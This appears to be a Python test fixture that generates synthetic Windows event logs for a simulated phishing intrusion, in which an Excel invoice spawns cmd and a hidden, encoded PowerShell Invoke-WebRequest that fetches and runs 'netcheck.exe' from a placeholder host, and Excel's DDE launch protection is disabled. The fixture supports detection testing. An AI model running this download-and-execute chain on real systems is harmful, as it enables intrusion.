"""FIN-WS07 in the morning: a mailed invoice starts cmd, that PowerShell, and that a program which it fetched."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import replace
from typing import Final

from tests.evtx_writer import (
    Event,
    powershell_4103,
    powershell_4104,
    sysmon_3,
    sysmon_7,
    sysmon_11,
    sysmon_12,
    sysmon_13,
    sysmon_15,
    sysmon_22,
    sysmon_23,
)

from .cast import EXCEL, EXPLORER, OUTLOOK, POWERSHELL, SECOND, SYSTEM32, keller
from .obfuscation import encoded
from .recorded import context, did, ended, opened, script, security, sysmon

USER_HIVE: Final = "HKU\\S-1-5-21-11-22-33-1107\\"
EXCEL_KEY: Final = USER_HIVE + "Software\\Microsoft\\Office\\16.0\\Excel\\"
TRUST_RECORDS: Final = EXCEL_KEY + "Security\\Trusted Documents\\TrustRecords\\%USERPROFILE%/"
TEMP: Final = "C:\\Users\\m.keller\\AppData\\Local\\Temp\\"

_MAIL: Final = (
    "C:\\Users\\m.keller\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\7QK2M1ZD\\"
)
_DOWNLOAD: Final = "Invoke-WebRequest https://files.example.net/readme.txt -OutFile $env:TEMP\\readme.txt"

_EXCEL = keller("09:14:03.228", 7716, EXCEL, f'"{_MAIL}Invoice_4471.xlsx"')
_CMD = replace(
    keller("09:14:21.667", 8812, SYSTEM32 + "cmd.exe"),
    command_line=f"cmd /C powershell -NoProfile -WindowStyle Hidden -EncodedCommand {encoded(_DOWNLOAD)}",
)
_CONHOST = keller("09:14:21.802", 8824, SYSTEM32 + "conhost.exe", "0xffffffff -ForceV1")
_POWERSHELL = replace(
    keller("09:14:22.031", 8840, POWERSHELL),
    command_line=f"powershell -NoProfile -WindowStyle Hidden -EncodedCommand {encoded(_DOWNLOAD)}",
)
_FETCHED = keller("09:14:28.116", 8868, TEMP + "netcheck.exe", "--once", original_file_name="netcheck.exe")
_IPCONFIG = keller("09:14:29.377", 8892, SYSTEM32 + "ipconfig.exe", "/all")


def invoice() -> Iterator[Event]:
    """All of it; Sysmon and Windows itself both record the command interpreters."""
    yield sysmon(_EXCEL, OUTLOOK)
    yield from _what_excel_did()
    yield sysmon(_CMD, _EXCEL)
    yield security(_CMD, _EXCEL, 2)
    yield opened(_EXCEL, _CMD, 18.441, 0x1FFFFF, f"{SYSTEM32}KERNEL32.DLL+1bd54|{EXCEL}+3f1a2c")
    yield sysmon(_CONHOST, _CMD)
    yield sysmon(_POWERSHELL, _CMD)
    yield security(_POWERSHELL, _CMD, 2)
    yield from _what_powershell_did()
    yield sysmon(_FETCHED, _POWERSHELL)
    yield sysmon(_IPCONFIG, _FETCHED)
    yield did(sysmon_12, _FETCHED, 2.2, target_object=USER_HIVE + "Software\\NetCheck")
    yield did(
        sysmon_13,
        _FETCHED,
        2.3,
        target_object=USER_HIVE + "Software\\NetCheck\\LastRun",
        details="DWORD (0x67d1a2c0)",
    )
    yield opened(_FETCHED, EXPLORER, 2.4, 0x1410, f"{_FETCHED.image}+11c8")
    yield did(
        sysmon_23,
        _FETCHED,
        2.6,
        target_filename=TEMP + "readme.txt",
        hashes="SHA256=E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855",
        is_executable=False,
    )
    for process, time in (
        (_IPCONFIG, "09:14:29.902"),
        (_FETCHED, "09:14:30.950"),
        (_POWERSHELL, "09:14:31.114"),
        (_CONHOST, "09:14:31.290"),
        (_CMD, "09:14:31.305"),
        (_EXCEL, "09:40:12.084"),
    ):
        yield ended(process, time)


def _what_excel_did() -> Iterator[Event]:
    """Nothing of VBA was loaded; a link may start a server again, and the user trusts the file."""
    yield did(
        sysmon_15,
        OUTLOOK,
        (_EXCEL.started - OUTLOOK.started) / SECOND + 2,
        target_filename=f"{_MAIL}Invoice_4471.xlsx:Zone.Identifier",
    )
    yield did(
        sysmon_7,
        _EXCEL,
        0.8,
        image_loaded="C:\\Program Files\\Common Files\\Microsoft Shared\\OFFICE16\\MSO.DLL",
        description="Microsoft Office component",
        original_file_name="MSO.DLL",
    )
    yield did(sysmon_11, _EXCEL, 2.9, target_filename=f"{_MAIL}~$Invoice_4471.xlsx")
    yield did(
        sysmon_13,
        _EXCEL,
        14,
        target_object=f"{TRUST_RECORDS}AppData/Local/Microsoft/Windows/INetCache/Content.Outlook/"
        "7QK2M1ZD/Invoice_4471.xlsx",
        details="Binary Data",
    )
    yield did(
        sysmon_13,
        _EXCEL,
        16.5,
        target_object=EXCEL_KEY + "Security\\DisableDDEServerLaunch",
        details="DWORD (0x00000000)",
    )


def _what_powershell_did() -> Iterator[Event]:
    yield script(powershell_4104, _POWERSHELL, 1.9, script_block_text=_DOWNLOAD)
    yield did(sysmon_22, _POWERSHELL, 2.4, query_name="files.example.net")
    yield did(
        sysmon_3,
        _POWERSHELL,
        3,
        source_hostname=_POWERSHELL.host,
        destination_ip="203.0.113.24",
        destination_hostname="files.example.net",
    )
    yield did(sysmon_11, _POWERSHELL, 4, target_filename=TEMP + "readme.txt")
    yield script(
        powershell_4103,
        _POWERSHELL,
        4.2,
        context_info=context(_POWERSHELL, "Invoke-WebRequest"),
        payload='CommandInvocation(Invoke-WebRequest): "Invoke-WebRequest"\r\n'
        'ParameterBinding(Invoke-WebRequest): name="Uri"; value="https://files.example.net/readme.txt"\r\n'
        f'ParameterBinding(Invoke-WebRequest): name="OutFile"; value="{TEMP}readme.txt"\r\n',
    )
    yield did(sysmon_11, _POWERSHELL, 5.6, target_filename=_FETCHED.image)
